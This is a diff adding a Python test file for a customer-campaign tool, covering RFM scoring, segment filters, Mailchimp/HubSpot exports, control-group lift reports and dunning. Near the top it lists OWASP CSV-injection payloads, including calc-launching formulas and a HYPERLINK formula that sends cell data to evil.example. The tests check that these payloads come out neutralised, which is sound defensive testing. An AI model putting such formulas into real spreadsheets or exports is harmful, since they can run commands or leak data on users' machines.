@@ -1,0 +1,227 @@
+"""Segments (RFM and filters), campaigns with control groups and their report, exports, dunning."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, date, datetime, timedelta
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from reports.builder import Cache
+
+from qbsync.campaigns import campaign, dunning, exports, rfm, segments
+from qbsync.clock import FixedClock
+from qbsync.errors import InputError
+from qbsync.reports.csvfile import neutralise
+from qbsync.rules.activity import CustomerActivity
+
+AS_OF = date(2025, 6, 30)
+CLOCK = FixedClock(datetime(2025, 6, 30, 12, tzinfo=UTC))
+
+# OWASP "CSV Injection" payloads: each must come back as inert text.
+OWASP = ["=1+2", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Error\")", "@SUM(1+1)*cmd|' /C calc'!A0",
+         "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "\t=1+2", "\r=1+2",
+         "=1+2\";=1+2", "=1+2'\" ;,=1+2"]
+
+
+def _act(cid: str, last: date | None, n: int, ltv: str) -> CustomerActivity:
+    return CustomerActivity(cid, f"C{cid}", True, None, False, date(2020, 1, 1), None, None,
+                            last_purchase=last, txn_count=n, lifetime_revenue=Decimal(ltv))
+
+
+def test_rfm_quintiles_and_named_segments() -> None:
+    acts = {str(i): _act(str(i), AS_OF - timedelta(days=10 * i), 10 - i // 2, str(1000 - 40 * i))
+            for i in range(20)}
+    acts["new"] = _act("new", AS_OF - timedelta(days=1), 1, "10")
+    acts["never"] = _act("never", None, 0, "0")
+    scores = rfm.score_all(acts, AS_OF)
+    assert "never" not in scores
+    assert scores["0"].segment == "Champions" and (scores["0"].r, scores["0"].fm) == (5, 5)
+    assert scores["19"].segment == "Lost" and scores["19"].r == 1
+    assert scores["new"].segment == "New"
+    assert all(s.segment in rfm.SEGMENT_NAMES for s in scores.values())
+    fixed = rfm.RfmConfig(recency_edges=(30, 90, 180, 365))
+    assert rfm.score_all(acts, AS_OF, fixed)["19"].r == 2  # 190 days: in 181..365
+
+
+def test_rfm_default_rules_cover_every_score_pair_once() -> None:
+    for r in range(1, 6):
+        for fm in range(1, 6):
+            assert sum(rule.matches(r, fm) for rule in rfm.DEFAULT_RULES) == 1, (r, fm)
+
+
+def _shop(c: Cache) -> None:
+    c.department("10", "Downtown")
+    c.item("i1", "Coffee beans")
+    c.item("i2", "Grinder")
+    people = [
+        ("1", "Ann Able", "ann@example.com", None), ("2", "Bob Bell", "BOB@example.com", "+1 555 0100"),
+        ("3", "Bob Bell Jr", "bob@example.com", None),  # same email as 2: one row
+        ("4", "No Mail Co", None, "555-0199"), ("5", "Owes Money", "owes@example.com", None),
+        ("6", "Blocked Person", "blocked@example.com", None), ("7", OWASP[1], "evil@example.com", OWASP[4]),
+    ]
+    for cid, name, email, phone in people:
+        first, _, last = name.partition(" ")
+        c.customer(cid, name, email=email, phone=phone, given=first, family=last, line1="1 Main St",
+                   city="Springfield", region="IL", postal="62701", country="US")
+    for cid, *_ in people:
+        inv = c.invoice(cid, date(2024, 3, 1), "100.00", due=date(2024, 3, 31), dept="10",
+                        items=(("i1", "60.00"), ("i2", "40.00")))
+        if cid != "5":
+            c.pay(cid, date(2024, 3, 20), (inv, "100.00"))
+
+
+def test_segment_filters_and_command_line_definition(db_url: str) -> None:
+    c = Cache(db_url)
+    _shop(c)
+    c.receipt("1", date(2025, 6, 1), "500.00")
+    seg = segments.from_command_line("all", ["location=downtown", "ltv_min=150", "active=true"])
+    got = [m.customer_id for m in segments.evaluate(c.engine, c.realm_id, seg, AS_OF)]
+    assert got == ["1"]
+    overdue = segments.make("late", "overdue", {"min_days": 30})
+    assert [m.customer_id for m in segments.evaluate(c.engine, c.realm_id, overdue, AS_OF)] == ["5"]
+    with pytest.raises(InputError, match="means nothing"):
+        segments.make("x", "rfm", {"segments": "Lost", "colour": "red"})
+    with pytest.raises(InputError, match="unknown: Sleepy"):
+        segments.make("x", "rfm", {"segments": "Sleepy"})
+
+
+def test_segments_from_the_example_file() -> None:
+    path = Path(__file__).resolve().parents[2] / "config" / "segments.example.toml"
+    loaded = segments.load_file(path)
+    assert {"winback", "at-risk", "vip", "overdue-payers"} <= set(loaded.segments)
+    assert loaded.segments["at-risk"].kind == "rfm"
+
+
+def _campaign(c: Cache, name: str = "spring", **kw: object) -> campaign.Campaign:
+    seg = segments.make("everyone", "all", {})
+    return campaign.create(c.engine, c.realm_id, name, seg, AS_OF, CLOCK, seed=42, **kw)  # type: ignore[arg-type]
+
+
+def test_exports_read_back_column_by_column(db_url: str, tmp_path: Path) -> None:
+    c = Cache(db_url)
+    _shop(c)
+    _campaign(c, control_share=Decimal(0))
+    dnc = exports.DoNotContact.parse(["# never email these", "Blocked@Example.com"])
+    result = {}
+    for fmt in exports.FORMATS:
+        out = tmp_path / fmt
+        out.mkdir()
+        result[fmt] = exports.export(c.engine, c.realm_id, "spring", out, CLOCK, fmt=fmt, do_not_contact=dnc)
+
+    mc = list(csv.DictReader(result["mailchimp"].files["marketing"].open(encoding="utf-8", newline="")))
+    assert list(mc[0]) == ["Email Address", "First Name", "Last Name", "Address", "Phone Number", "Tags"]
+    emails = [r["Email Address"].lower() for r in mc]
+    assert len(emails) == len(set(emails)) == 3  # ann, bob (2 records merged), evil
+    assert "blocked@example.com" not in emails
+    bob = next(r for r in mc if r["Email Address"].lower() == "bob@example.com")
+    assert (bob["First Name"], bob["Last Name"], bob["Phone Number"]) == ("Bob", "Bell", "'+1 555 0100")
+    assert bob["Address"] == "1 Main St  Springfield  IL  62701  US"
+    assert bob["Tags"].split(",")[0] == "everyone" and bob["Tags"].split(",")[1] in ("gold", "silver", "bronze")
+    evil = next(r for r in mc if r["Email Address"] == "evil@example.com")
+    assert evil["First Name"] == "'" + OWASP[1].partition(" ")[0]
+    assert evil["Phone Number"] == "'" + OWASP[4]
+
+    hs = list(csv.DictReader(result["hubspot"].files["marketing"].open(encoding="utf-8", newline="")))
+    assert list(hs[0]) == exports.HUBSPOT_COLUMNS
+    ann = next(r for r in hs if r["Email"] == "ann@example.com")
+    assert (ann["First name"], ann["Last name"], ann["Street address"], ann["City"], ann["State/Region"],
+            ann["Postal code"], ann["Country/Region"]) == ("Ann", "Able", "1 Main St", "Springfield", "IL",
+                                                           "62701", "US")
+
+    gen = result["generic"]
+    rows = list(csv.DictReader(gen.files["marketing"].open(encoding="utf-8", newline="")))
+    assert list(rows[0]) == exports.GENERIC_COLUMNS
+    ann_g = next(r for r in rows if r["Customer Id"] == "1")
+    assert ann_g["Top Items"] == "Coffee beans; Grinder" and ann_g["Lifetime Value"] == "100.00"
+    assert ann_g["Days Inactive"] == str((AS_OF - date(2024, 3, 1)).days)
+    bob_g = next(r for r in rows if r["Email"].lower() == "bob@example.com")
+    assert bob_g["Merged Ids"] in ("2", "3") and bob_g["Lifetime Value"] == "200.00"
+    call = list(csv.DictReader(gen.files["call"].open(encoding="utf-8", newline="")))
+    assert [r["Customer Id"] for r in call] == ["4"]
+    coll = list(csv.DictReader(gen.files["collections"].open(encoding="utf-8", newline="")))
+    assert [(r["Customer Id"], r["Balance"]) for r in coll] == [("5", "100.00")]
+    assert gen.excluded_do_not_contact == 1 and gen.merged_records == 1
+    everything = "".join(p.read_text(encoding="utf-8") for r in result.values() for p in r.files.values())
+    assert "blocked" not in everything.lower()
+
+
+def test_open_balance_customers_join_the_marketing_list_when_asked(db_url: str, tmp_path: Path) -> None:
+    c = Cache(db_url)
+    _shop(c)
+    _campaign(c, control_share=Decimal(0))
+    res = exports.export(c.engine, c.realm_id, "spring", tmp_path, CLOCK, fmt="mailchimp", include_balance=True,
+                         bom=True)
+    raw = res.files["marketing"].read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    assert "owes@example.com" in raw.decode("utf-8-sig") and res.rows["collections"] == 0
+
+
+def test_owasp_payloads_are_neutralised() -> None:
+    from qbsync.reports.csvfile import csv_text
+
+    text = csv_text(["v"], [[p] for p in OWASP])
+    back = [r["v"] for r in csv.DictReader(io.StringIO(text, newline=""))]
+    assert back == ["'" + p for p in OWASP]
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in back)
+    assert neutralise("plain") == "plain" and neutralise("a=b") == "a=b"
+
+
+def test_control_group_is_seeded_recorded_and_ten_percent(db_url: str) -> None:
+    c = Cache(db_url)
+    for i in range(40):
+        c.customer(str(i), f"Customer {i}")
+        c.invoice(str(i), date(2024, 1, 1), "10.00")
+    camp = _campaign(c)
+    mem = campaign.members(c.engine, camp.id)
+    control = {m.customer_id for m in mem if m.control}
+    assert len(control) == camp.controls == 4 and camp.seed == 42 and camp.control_share == "0.10"
+    assert control == campaign.draw_control([m.customer_id for m in mem], Decimal("0.10"), 42)
+    with pytest.raises(InputError, match="already exists"):
+        _campaign(c)
+
+
+def test_campaign_report_recovers_planted_return_shares(db_url: str) -> None:
+    c = Cache(db_url)
+    n = 200
+    for i in range(n):
+        c.customer(str(i), f"Customer {i}")
+        c.invoice(str(i), date(2024, 1, 1), "10.00")
+    camp = _campaign(c, control_share=Decimal("0.5"))
+    mem = campaign.members(c.engine, camp.id)
+    contacted = sorted(m.customer_id for m in mem if not m.control)
+    control = sorted(m.customer_id for m in mem if m.control)
+    for cid in contacted[:40]:  # 40 % of contacted come back
+        c.receipt(cid, AS_OF + timedelta(days=10), "25.00")
+    for cid in control[:10]:  # 10 % of control
+        c.invoice(cid, AS_OF + timedelta(days=20), "30.00")
+    c.receipt(contacted[-1], AS_OF, "99.00")  # on the campaign date itself: not a return
+    rep = campaign.report(c.engine, c.realm_id, "spring", AS_OF + timedelta(days=60))
+    assert (rep.contacted.members, rep.contacted.returned) == (100, 40)
+    assert (rep.control.members, rep.control.returned) == (100, 10)
+    assert rep.contacted.revenue == Decimal("1000.00") and rep.control.revenue == Decimal("300.00")
+    assert rep.contacted.median_days_to_return == 10.0
+    assert rep.lift == pytest.approx(0.30)
+    low, high = rep.lift_interval
+    assert 0.17 < low < 0.30 < high < 0.42
+    assert rep.ratio == pytest.approx(4.0) and rep.ratio_interval is not None
+    follow = campaign.followup(c.engine, c.realm_id, "spring", AS_OF + timedelta(days=60))
+    assert len(follow) == 60 and not any(m.control for m in follow)
+    early = campaign.report(c.engine, c.realm_id, "spring", AS_OF + timedelta(days=15))
+    assert early.contacted.returned == 40 and early.control.returned == 0
+
+
+def test_dunning_reminders_and_overdue_buckets(db_url: str) -> None:
+    c = Cache(db_url)
+    c.customer("1", "Acme", email="ap@acme.example")
+    c.invoice("1", date(2025, 6, 1), "10.00", due=date(2025, 7, 5), doc="A-1")  # due in 5 days
+    c.invoice("1", date(2025, 6, 1), "20.00", due=date(2025, 7, 20), doc="A-2")  # too far out
+    c.invoice("1", date(2025, 4, 1), "30.00", due=date(2025, 5, 1), doc="A-3")  # 60 days
+    paid = c.invoice("1", date(2025, 4, 1), "40.00", due=date(2025, 5, 1), doc="A-4")
+    c.pay("1", date(2025, 5, 2), (paid, "40.00"))
+    rows = dunning.dunning(c.engine, c.realm_id, AS_OF, within_days=7)
+    assert [(r.doc_number, r.stage, r.days, r.balance) for r in rows] == [
+        ("A-1", "reminder", -5, Decimal("10.00")), ("A-3", "31-60", 60, Decimal("30.00"))]
+    assert rows[0].email == "ap@acme.example"
